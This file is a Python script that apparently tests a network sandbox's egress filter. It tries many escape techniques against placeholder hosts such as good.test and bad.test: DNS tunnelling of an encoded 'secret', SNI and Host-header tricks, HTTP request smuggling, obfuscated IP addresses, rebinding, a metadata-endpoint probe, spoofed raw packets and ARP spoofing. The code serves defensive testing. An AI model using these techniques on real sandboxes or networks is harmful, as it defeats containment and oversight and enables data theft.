"""What a program in the sandbox tries: each attempt prints one line, "NAME: how it ended".

    guest.py ADDRESS PUBLIC ATTEMPT...
"""
import errno
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

ADDRESS, PUBLIC = sys.argv[1:3]
OWN = "10.77.0.2"


def curl(*arguments):
    done = subprocess.run(["curl", "-s", "-k", "-m", "5", *arguments], capture_output=True, text=True)
    return "hello" if done.stdout == "hello\n" and not done.returncode else f"failed {done.returncode}"


def connect(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect((address, port))
        return "connected"


def datagram(address, port, size=5):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(b"x" * size, (address, port))
        return "answered" if sock.recv(100) else "?"


def resolve(name):
    return " ".join(sorted(info[4][0] for info in socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)))


def ask(name, server="127.0.0.53", kind=16, tcp=False):
    """A question, as a tunnel would put it: the code of the answer and how many records it has."""
    labels = b"".join(bytes([len(part)]) + part.encode("latin-1") for part in name.split("."))
    query = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.connect((server, 53))
        sock.send(struct.pack(">H", len(query)) + query if tcp else query)
        data = sock.recv(4096)[2 if tcp else 0:]
        return f"code {data[3] & 15}, {struct.unpack('>H', data[6:8])[0]} records"


def talk(port, *pieces):
    """Says these bytes to an address that good.test has been found to have."""
    resolve("good.test")
    with socket.socket() as sock:
        sock.settimeout(5)
        sock.connect((PUBLIC, port))
        for piece in pieces:
            sock.sendall(piece)
            time.sleep(0.05)
        data = b""
        while b"hello" not in data:
            more = sock.recv(4096)
            if not more:
                return "closed"
            data += more
        return f"hello {data.count(b'hello')}"


def tls(server_name, port=443):
    resolve("good.test")
    context = ssl._create_unverified_context()
    with socket.create_connection((PUBLIC, port), timeout=5) as sock:
        with context.wrap_socket(sock, server_hostname=server_name) as secure:
            return "shaken " + secure.version()


def get(host):
    return b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n"


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(target, source=OWN, fragment=0, options=b"", port=7777, payload=b"attack!!"):
    udp = struct.pack(">HHHH", 4444, port, 8 + len(payload), 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(udp), 1, fragment, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + options
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp


def raw(data, target):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(data, (target, 0))
        return "sent"


def frame(data, kind, source=None):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface(), 0))
        own = sock.getsockname()[4]
        sock.send(b"\xff" * 6 + (source or own) + struct.pack(">H", kind) + (data(own) if callable(data) else data))
        return "sent"


def interface():
    return next(name for _, name in socket.if_nameindex() if name != "lo")


def arp(own):
    return struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, own, socket.inet_aton(ADDRESS), b"\xff" * 6, socket.inet_aton(PUBLIC))


def bound_elsewhere():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
        sock.bind(("10.77.0.99", 0))
        sock.sendto(b"attack", (ADDRESS, 7777))
        return "sent"


def changed_network():
    """Whoever is the resolver could say what an allowed name may be connected to; whoever adds an address sends in its name."""
    said = []
    for words in (f"addr add {ADDRESS}/32 dev lo", "addr add 10.77.0.99/24 dev lo", f"addr add 10.77.0.99/24 dev {interface()}",
                  "route add 198.51.100.0/24 dev lo", "link set lo down", f"link set {interface()} mtu 1400"):
        done = subprocess.run(["ip", *words.split()], capture_output=True, text=True)
        said.append("EPERM" if "not permitted" in done.stderr else f"{words}: {done.returncode} {done.stderr}")
    return " ".join(sorted(set(said)))


def source_route():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(ADDRESS) + b"\0")
        sock.sendto(b"attack", (ADDRESS, 7777))
        return "sent"


def forged_answers():
    """Answers for a name that lead elsewhere, over the loopback, in the resolver's name."""
    if os.fork() == 0:
        try:
            resolve("good.test")
        except OSError:
            pass
        os._exit(0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for port in range(32768, 33768):
            sock.sendto(packet(OWN, source=ADDRESS, port=port), (OWN, 0))
    os.wait()
    return "sent"


def echo_through_loopback():
    """A ping to ourselves in another's name: the answer would carry its data outside."""
    body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"secret!!"
    body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0, socket.inet_aton(ADDRESS), socket.inet_aton(OWN))
    return raw(head + body, OWN)


def group():
    """Routers are told which groups somebody listens to: the number could be a message."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.1.2.3") + socket.inet_aton(OWN))
        time.sleep(1.2)
        return "joined"


def listening(kind):
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.bind(("0.0.0.0", 9999))
        if kind == socket.SOCK_STREAM:
            sock.listen()
        print("listening", flush=True)
        sock.settimeout(8)
        if kind == socket.SOCK_STREAM:
            peer, who = sock.accept()
            return f"accepted {peer.recv(10)}"
        data, who = sock.recvfrom(100)
        sock.sendto(data, who)
        return f"received {data}"


ATTEMPTS = {
    "name": lambda: curl("http://good.test/"),
    "name-tls": lambda: curl("https://good.test/"),
    "name-other-port": lambda: curl("http://good.test:8000/"),
    "two-requests": lambda: talk(80, get("good.test"), get("good.test")),
    "raw-address": lambda: curl(f"http://{PUBLIC}/"),
    "raw-address-after-name": lambda: talk(80, get(PUBLIC)),
    "name-not-allowed": lambda: resolve("bad.test"),
    "tunnel": lambda: ask("c2VjcmV0.and.more.bad.test"),
    "tunnel-in-allowed-tree": lambda: ask("c2VjcmV0.good.test"),
    "tunnel-odd-labels": lambda: ask("good.test\0.bad.test"),
    "tunnel-types": lambda: ask("good.test"),
    "dns-tcp": lambda: ask("bad.test", tcp=True),
    "dns-tcp-allowed": lambda: ask("good.test", kind=1, tcp=True),
    "dns-elsewhere": lambda: ask("bad.test", server=ADDRESS),
    "dns-elsewhere-tcp": lambda: ask("bad.test", server=ADDRESS, tcp=True),
    "dns-over-443": lambda: connect(ADDRESS, 443),
    "dns-over-quic": lambda: datagram(PUBLIC, 443),
    "sni-different": lambda: tls("bad.test"),
    "sni-missing": lambda: tls(None),
    "sni-right": lambda: tls("good.test"),
    "sni-different-other-port": lambda: tls("bad.test", 8443),
    "no-tls-on-443": lambda: talk(443, get("good.test")),
    "host-different": lambda: talk(80, get("bad.test")),
    "host-different-second": lambda: talk(80, get("good.test"), get("bad.test")),
    "host-different-pipelined": lambda: talk(80, get("good.test") + get("bad.test")),
    "host-in-pieces": lambda: talk(80, b"GET / HTTP/1.1\r\nHost: b", b"ad.test\r\n\r\n"),
    "hosts-two": lambda: talk(80, b"GET / HTTP/1.1\r\nHost: good.test\r\nHost: bad.test\r\n\r\n"),
    "smuggled": lambda: talk(80, b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    "no-http-on-80": lambda: talk(80, b"\0\1\2\3attack"),
    "mapped": lambda: connect(f"::ffff:{ADDRESS}", 80, socket.AF_INET6),
    "decimal": lambda: curl(f"http://{int.from_bytes(socket.inet_aton(PUBLIC), 'big')}/"),
    "octal": lambda: curl("http://" + ".".join(f"0{int(part):o}" for part in PUBLIC.split(".")) + "/"),
    "hexadecimal": lambda: curl("http://0x" + socket.inet_aton(PUBLIC).hex() + "/"),
    "rebinding": lambda: resolve("rebind.test"),
    "rebinding-half": lambda: resolve("half.test"),
    "redirect": lambda: curl("-L", "http://good.test/redirect"),
    "metadata": lambda: connect("169.254.169.254", 80),
    "datagram": lambda: datagram(ADDRESS, 7777),
    "fragments": lambda: datagram(ADDRESS, 7777, 5000),
    "raw-socket": lambda: raw(packet(ADDRESS), ADDRESS),
    "raw-fragment": lambda: raw(packet(ADDRESS, fragment=0x2000), ADDRESS),
    "raw-spoofed": lambda: raw(packet(ADDRESS, source="10.77.0.99"), ADDRESS),
    "raw-source-route": lambda: raw(packet(ADDRESS, options=b"\x83\x07\x04" + socket.inet_aton(ADDRESS) + b"\0"), ADDRESS),
    "frame": lambda: frame(packet(ADDRESS), 0x800),
    "frame-spoofed-hardware": lambda: frame(packet(ADDRESS), 0x800, b"\2\2\2\2\2\2"),
    "frame-other-type": lambda: frame(b"attack", 0x88b5),
    "arp-spoofing": lambda: frame(arp, 0x806),
    "bound-elsewhere": bound_elsewhere,
    "source-route": source_route,
    "changed-network": changed_network,
    "forged-answers": forged_answers,
    "echo-through-loopback": echo_through_loopback,
    "group": group,
    "raw-to-neighbour": lambda: raw(packet("10.77.0.77"), "10.77.0.77"),
    "listening": lambda: listening(socket.SOCK_STREAM),
    "listening-datagrams": lambda: listening(socket.SOCK_DGRAM),
    "wait": lambda: time.sleep(6) or "over",
}


def stay_connected():
    """A connection that is used every now and then, until it breaks."""
    resolve("good.test")
    with socket.create_connection((PUBLIC, 80), timeout=5) as sock:
        for i in range(100):
            sock.sendall(get("good.test"))
            if not sock.recv(4096):
                return "closed"
            if i == 0:
                print("connected", flush=True)
            time.sleep(0.1)
    return "still there"


def two_connections():
    resolve("good.test")
    with socket.create_connection((PUBLIC, 80), timeout=5):
        return connect(PUBLIC, 80)


ATTEMPTS["stay-connected"] = stay_connected
ATTEMPTS["stay-connected-twice"] = two_connections

for attempt in sys.argv[3:]:
    try:
        result = ATTEMPTS[attempt]()
    except TimeoutError:
        result = "timeout"
    except ssl.SSLError as error:
        result = f"ssl {error.reason}"
    except socket.gaierror as error:
        result = f"no such name ({error.errno})"
    except OSError as error:
        result = errno.errorcode.get(error.errno, str(error))
    print(f"{attempt}: {result}", flush=True)
